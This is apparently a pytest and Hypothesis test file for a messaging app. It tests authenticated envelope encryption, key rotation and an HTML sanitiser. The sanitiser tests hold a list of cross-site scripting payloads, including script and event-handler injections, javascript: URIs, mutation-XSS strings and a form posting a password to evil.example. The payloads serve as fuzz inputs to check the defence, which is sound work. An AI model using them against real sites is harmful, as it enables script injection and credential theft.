"""Envelope encryption and the body sanitiser: examples, then properties (Hypothesis)."""

from __future__ import annotations

import base64
import hashlib
import re
import secrets
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from hushpost.accounts.models import User
from hushpost.crypto import aead, derivation, keys, labels, master
from hushpost.crypto.aead import DecryptionError
from hushpost.crypto.keys import create_org_key
from hushpost.lib.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, sanitize_html, text_to_html
from hushpost.messaging.content import open_content, open_subject, seal_content
from hushpost.messaging.models import Message
from hushpost.orgs.models import OrgKey

SUBJECT = "Résultats d'analyse 🧪 n°42"
BODY = "<p>Your results are <b>normal</b>. — Dr Ng</p>"

# No example database on disk, no deadline flakiness on a busy CI machine.
PROPERTY = hsettings(database=None, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@pytest.fixture(autouse=True)
def _fresh_key_caches():
    """Unwrapped keys are cached per process; tests that change keys start and end clean."""
    _clear_key_caches()
    yield
    _clear_key_caches()


def _clear_key_caches():
    for cached in (master.master_key, keys.unwrap_org_key, keys.key_version):
        if hasattr(cached, "cache_clear"):
            cached.cache_clear()


def _author(org) -> User:
    user = User(org=org, email=f"s{secrets.token_hex(4)}@{org.domains.first().name}", role=User.Role.SENDER)
    user.set_unusable_password()
    user.save()
    return user


def _message(org, subject=SUBJECT, body=BODY, author=None) -> Message:
    message = Message(org=org, author=author or _author(org), send_token=secrets.token_urlsafe(24))
    seal_content(message, subject, body)
    message.save()
    return message


def _reload(message) -> Message:
    return Message.objects.select_related("org").get(pk=message.pk)


# --- examples against the database -------------------------------------------

def test_round_trip(make_org):
    org = make_org()
    message = _reload(_message(org))
    content = open_content(message)
    assert (content.subject, content.body_html) == (SUBJECT, BODY)
    assert open_subject(message) == SUBJECT
    for blob in (message.subject_ct, message.body_ct, message.wrapped_key):
        blob = bytes(blob)
        assert blob[:1] == aead.FORMAT_V1
        assert SUBJECT.encode() not in blob and b"normal" not in blob


def test_same_content_twice_gives_different_ciphertext(make_org):
    org = make_org()
    a, b = _message(org), _message(org)
    assert bytes(a.subject_ct) != bytes(b.subject_ct)
    assert bytes(a.wrapped_key) != bytes(b.wrapped_key)
    nonces = {bytes(m.subject_ct)[1:13] for m in (a, b)} | {bytes(m.body_ct)[1:13] for m in (a, b)}
    assert len(nonces) == 4


@pytest.mark.parametrize("column", ["subject_ct", "body_ct", "wrapped_key"])
def test_every_byte_of_every_ciphertext_is_authenticated(make_org, column):
    org = make_org()
    message = _reload(_message(org))
    original = bytes(getattr(message, column))
    for i in range(len(original)):
        for flip in (0x01, 0x80):
            tampered = bytearray(original)
            tampered[i] ^= flip
            setattr(message, column, bytes(tampered))
            with pytest.raises(DecryptionError):
                open_content(message)
    for broken in (original[:-1], original + b"\x00", original[:13], b"", b"\x02" + original[1:]):
        setattr(message, column, broken)
        with pytest.raises(DecryptionError):
            open_content(message)
    setattr(message, column, original)
    assert open_content(message).subject == SUBJECT


def test_tampered_row_in_the_database_fails_to_open(make_org):
    org = make_org()
    message = _message(org)
    blob = bytearray(bytes(message.body_ct))
    blob[-1] ^= 0x01
    Message.objects.filter(pk=message.pk).update(body_ct=bytes(blob))
    with pytest.raises(DecryptionError):
        open_content(_reload(message))


def test_subject_and_body_cannot_be_swapped(make_org):
    org = make_org()
    message = _message(org)
    Message.objects.filter(pk=message.pk).update(subject_ct=message.body_ct, body_ct=message.subject_ct)
    swapped = _reload(message)
    with pytest.raises(DecryptionError):
        open_subject(swapped)
    with pytest.raises(DecryptionError):
        open_content(swapped)


@pytest.mark.parametrize("columns", [
    ("subject_ct",),
    ("body_ct",),
    ("wrapped_key",),
    ("wrapped_key", "subject_ct", "body_ct"),
    ("wrapped_key", "subject_ct", "body_ct", "key_version"),
])
def test_ciphertext_copied_into_another_message_fails(make_org, columns):
    org = make_org()
    author = _author(org)
    source = _message(org, subject="Source secret", body="<p>source</p>", author=author)
    target = _message(org, subject="Target", body="<p>target</p>", author=author)
    Message.objects.filter(pk=target.pk).update(**{c: getattr(source, c) for c in columns})
    moved = _reload(target)
    with pytest.raises(DecryptionError):
        open_content(moved)
    if "subject_ct" in columns or "wrapped_key" in columns:
        with pytest.raises(DecryptionError):
            open_subject(moved)
    else:
        assert open_subject(moved) == "Target"  # the untouched field still opens


def test_message_moved_to_another_organisation_fails(make_org):
    org_a, org_b = make_org("Org A"), make_org("Org B")
    message = _message(org_a)
    Message.objects.filter(pk=message.pk).update(org=org_b)
    with pytest.raises(DecryptionError):
        open_content(_reload(message))


def test_another_organisations_key_cannot_unwrap_the_data_key(make_org):
    org_a, org_b = make_org("Org A"), make_org("Org B")
    message = _message(org_a)
    _, key_b = keys.current_key(org_b)
    _, key_a = keys.current_key(org_a)
    assert key_a != key_b
    aad = labels.data_key_aad(org_a.pk, message.uid)
    aead.open_sealed(key_a, bytes(message.wrapped_key), aad)  # the right key works
    with pytest.raises(DecryptionError):
        aead.open_sealed(key_b, bytes(message.wrapped_key), aad)
    # Nor does org B's key, presented as org B's, open anything of org A.
    with pytest.raises(DecryptionError):
        aead.open_sealed(key_b, bytes(message.wrapped_key), labels.data_key_aad(org_b.pk, message.uid))


def test_organisation_key_is_bound_to_its_organisation_and_version(make_org):
    org_a, org_b = make_org("Org A"), make_org("Org B")
    wrapped_a = bytes(OrgKey.objects.get(org=org_a, version=1).wrapped_key)
    assert len(keys.unwrap_org_key(master.keyring(), org_a.pk, 1, wrapped_a)) == aead.KEY_BYTES
    for org_id, version in ((org_b.pk, 1), (org_a.pk, 2)):
        with pytest.raises(DecryptionError):
            master.open_sealed(wrapped_a, labels.org_key_aad(org_id, version))
    # An organisation key row copied to another organisation opens nothing there.
    OrgKey.objects.filter(org=org_b, version=1).update(wrapped_key=wrapped_a)
    with pytest.raises(DecryptionError):
        keys.current_key(org_b)


def test_wrong_master_key_opens_nothing(make_org, settings):
    org = make_org()
    message = _message(org)
    settings.MASTER_KEY = base64.b64encode(secrets.token_bytes(32)).decode()
    _clear_key_caches()
    with pytest.raises(DecryptionError):
        open_content(_reload(message))


def test_key_rotation_keeps_old_messages_readable(make_org):
    org = make_org()
    old = _message(org, subject="Before rotation", body="<p>old</p>")
    assert old.key_version == 1
    new_key = create_org_key(org)
    assert new_key.version == 2
    new = _message(org, subject="After rotation", body="<p>new</p>")
    assert new.key_version == 2
    assert open_content(_reload(old)).subject == "Before rotation"
    assert open_content(_reload(new)).subject == "After rotation"
    assert keys.key_version(org.pk, 1) != keys.key_version(org.pk, 2)
    # Each message opens only under its own key version.
    Message.objects.filter(pk=old.pk).update(key_version=2)
    with pytest.raises(DecryptionError):
        open_content(_reload(old))
    third = create_org_key(org)
    assert third.version == 3 and _message(org).key_version == 3
    assert open_content(_reload(new)).body_html == "<p>new</p>"


def test_rotation_through_the_portal(sender_client, org):
    """Alice reads a message sent before a rotation and one sent after it."""
    from tests.helpers import send

    first = send(sender_client, to="bob@client.example", subject="Sent under v1")["Location"]
    create_org_key(org)
    second = send(sender_client, to="bob@client.example", subject="Sent under v2")["Location"]
    versions = dict(Message.objects.values_list("uid", "key_version"))
    assert sorted(versions.values()) == [1, 2]
    assert "Sent under v1" in sender_client.get(first).content.decode()
    assert "Sent under v2" in sender_client.get(second).content.decode()
    sent = sender_client.get("/app/sent").content.decode()
    assert "Sent under v1" in sent and "Sent under v2" in sent


def test_master_key_setting_formats():
    raw = secrets.token_bytes(32)
    assert master.master_key_from_setting(base64.b64encode(raw).decode()) == raw  # openssl rand -base64 32
    assert master.master_key_from_setting(base64.urlsafe_b64encode(raw).decode().rstrip("=")) == raw
    phrase = "a long passphrase kept in a vault"
    assert master.master_key_from_setting(phrase) == hashlib.sha256(phrase.encode()).digest()


# --- properties ---------------------------------------------------------------

keys_st = st.binary(min_size=32, max_size=32)
aad_st = st.binary(max_size=64)


@PROPERTY
@given(key=keys_st, plaintext=st.binary(max_size=2048), aad=aad_st)
def test_seal_then_open_gives_the_plaintext(key, plaintext, aad):
    blob = aead.seal(key, plaintext, aad)
    assert len(blob) == 1 + aead.NONCE_BYTES + len(plaintext) + 16
    assert aead.open_sealed(key, blob, aad) == plaintext
    assert aead.open_sealed(key, memoryview(blob), aad) == plaintext  # as PostgreSQL returns it


@PROPERTY
@given(key=keys_st, plaintext=st.binary(max_size=512), aad=aad_st, data=st.data())
def test_any_bit_flip_is_detected(key, plaintext, aad, data):
    blob = bytearray(aead.seal(key, plaintext, aad))
    index = data.draw(st.integers(0, len(blob) - 1), label="index")
    bit = data.draw(st.integers(0, 7), label="bit")
    blob[index] ^= 1 << bit
    with pytest.raises(DecryptionError):
        aead.open_sealed(key, bytes(blob), aad)


@PROPERTY
@given(key=keys_st, other=keys_st, plaintext=st.binary(max_size=256), aad=aad_st, other_aad=aad_st)
def test_wrong_key_or_context_is_detected(key, other, plaintext, aad, other_aad):
    blob = aead.seal(key, plaintext, aad)
    if other != key:
        with pytest.raises(DecryptionError):
            aead.open_sealed(other, blob, aad)
    if other_aad != aad:
        with pytest.raises(DecryptionError):
            aead.open_sealed(key, blob, other_aad)


@PROPERTY
@given(key=keys_st, plaintext=st.binary(max_size=256), aad=aad_st, cut=st.integers(1, 300))
def test_truncated_or_extended_ciphertext_is_detected(key, plaintext, aad, cut):
    blob = aead.seal(key, plaintext, aad)
    with pytest.raises(DecryptionError):
        aead.open_sealed(key, blob[: max(0, len(blob) - cut)], aad)
    with pytest.raises(DecryptionError):
        aead.open_sealed(key, blob + bytes(cut % 17 + 1), aad)


@PROPERTY
@given(org_id=st.integers(1, 10**9), uid=st.text("abcdefghijklmnopqrstuvwxyz0123456789_-", min_size=1, max_size=32))
def test_associated_data_never_collides_between_fields(org_id, uid):
    aads = {labels.field_aad(org_id, uid, labels.SUBJECT), labels.field_aad(org_id, uid, labels.BODY),
            labels.data_key_aad(org_id, uid), labels.org_key_aad(org_id, 1), labels.draft_file_aad(org_id, uid),
            labels.file_key_aad(org_id, uid, uid), labels.file_aad(org_id, uid), labels.totp_secret_aad(org_id),
            labels.totp_setup_aad(org_id)}
    assert len(aads) == 9


def test_the_master_key_derives_a_key_only_for_a_listed_purpose(db):
    derived = {derivation.derived_key(label) for label in labels.MASTER_DERIVED}
    assert len(derived) == len(labels.MASTER_DERIVED) and master.master_key() not in derived
    with pytest.raises(ValueError, match="not a purpose"):
        derivation.derived_key(b"hushpost:anything-else")


# The sanitiser: text assembled from a grammar of risky fragments.
RISKY = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<script", "</script>", "<img src=x onerror=alert(1)>", "<IMG SRC=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">", "<a href=\"java\tscript:alert(1)\">",
    "<a href=\"&#106;avascript:alert(1)\">", "<a href=\"&#x6A;avascript&colon;alert(1)\">", "<a href=\" javascript:alert(1)\">",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">", "<a href=\"vbscript:msgbox\">", "<a href=https://ok.example/>",
    "<a href=\"https://ok.example/?q=1\" onclick=\"alert(1)\">", "<a title=\"x\" onmouseover=alert(1)>",
    "<iframe src=//evil.example></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<frame src=x>",
    "<style>body{background:url(javascript:alert(1))}</style>", "<style>", "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=password><button>Go</button></form>", "<form>", "<input autofocus onfocus=alert(1)>",
    "<object data=x></object>", "<embed src=x>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">", "<p style=\"x:expression(alert(1))\">", "<x onclick=alert(1)>",
    "<!--", "-->", "<!-- <script>alert(1)</script> -->", "<![CDATA[", "]]>", "<?xml?>", "<!DOCTYPE html>",
    "<", ">", "\"", "'", "`", "=", "/", " ", "\n", "\t", "\x00", "&", "&lt;", "&#60;", "&#x3c;",
    "<b>", "</b>", "<i>", "</i>", "<ul>", "<li>", "</li>", "</ul>", "<p>", "</p>", "<a href=\"https://ok.example\">", "</a>",
    "onerror=", "onload=alert(1)", "javascript:", "alert(1)", "src=", "href=", "plain words", "é🧪",
]
risky_text = st.lists(st.sampled_from(RISKY) | st.text(max_size=8), max_size=25).map("".join)

_TAG = re.compile(r"<[^>]*>")
_CONTROL = re.compile(r"[\x00-\x20\x7f]+")


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


_QUOTED = re.compile(r'"[^"]*"|\'[^\']*\'')
GENERIC_ATTRIBUTES = {"title", "lang"}  # nh3's defaults, allowed on every tag


def _assert_safe(out: str) -> None:
    """No element or attribute that can run script, fetch, frame, style or submit.

    Text and attribute values may well *say* ``onerror=`` or ``javascript:``;
    what matters is that no tag has an event attribute and no link that scheme.
    """
    lowered = out.lower()
    for needle in ("<script", "<style", "<iframe", "<img", "<form", "<svg", "<object", "<embed", "<base",
                   "<meta", "<link", "<input", "<textarea", "<math", "<frame", "<noscript", "<!--"):
        assert needle not in lowered, (needle, out)
    for tag in _TAG.findall(out):  # text '<' is escaped, so these are exactly the tags
        assert not re.search(r"\son\w+\s*=", _QUOTED.sub('""', tag), re.I), out
    parser = _Tags()
    parser.feed(out)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, out
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | GENERIC_ATTRIBUTES | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            assert name in allowed, out
            if name == "href":
                target = _CONTROL.sub("", value or "")
                scheme = target.split(":", 1)[0].lower() if ":" in target else ""
                assert scheme in {"", "http", "https", "mailto"} or "/" in scheme or "?" in scheme, out
            if name == "rel":
                assert value == "noopener noreferrer nofollow"


@hsettings(PROPERTY, max_examples=400)
@given(risky_text)
def test_sanitised_html_never_carries_active_content(value):
    _assert_safe(sanitize_html(value))


@hsettings(PROPERTY, max_examples=200)
@given(risky_text)
@example("<li><form><li>")  # a stripped tag left items that nest once, then split
def test_sanitising_twice_changes_nothing(value):
    once = sanitize_html(value)
    _assert_safe(sanitize_html(once))
    assert sanitize_html(once) == once


def test_a_stored_body_is_cleaned_once_each_time_a_page_shows_it(monkeypatch):
    """A stored body is already what cleaning makes of it, so showing it costs one pass of
    the sanitiser; a body that cleaning changes gets its second pass, to the fixed point."""
    from hushpost.lib import sanitize

    passes = []
    clean = sanitize._clean
    monkeypatch.setattr(sanitize, "_clean", lambda value: passes.append(value) or clean(value))
    stored = sanitize_html("<p>Your results are <b>normal</b>.<script>x()</script></p>")
    assert len(passes) == 2
    passes.clear()
    assert sanitize_html(stored) == stored
    assert len(passes) == 1


@hsettings(PROPERTY, max_examples=200)
@given(risky_text)
def test_plain_text_bodies_become_inert_paragraphs(value):
    out = sanitize_html(text_to_html(value))
    _assert_safe(out)
    parser = _Tags()
    parser.feed(out)
    assert {tag for tag, _ in parser.tags} <= {"p", "br"}


@pytest.mark.parametrize(("dirty", "kept"), [
    ("<b>bold</b> <i>it</i>", "<b>bold</b> <i>it</i>"),
    ("<ul><li>one</li><li>two</li></ul>", "<ul><li>one</li><li>two</li></ul>"),
    ('<a href="https://ok.example/x">link</a>', 'href="https://ok.example/x"'),
    ('<a href="mailto:a@b.example">mail</a>', 'href="mailto:a@b.example"'),
    ("<blockquote>q</blockquote><pre>c</pre>", "<blockquote>q</blockquote><pre>c</pre>"),
])
def test_formatting_survives(dirty, kept):
    out = sanitize_html(dirty)
    assert kept in out
    _assert_safe(out)
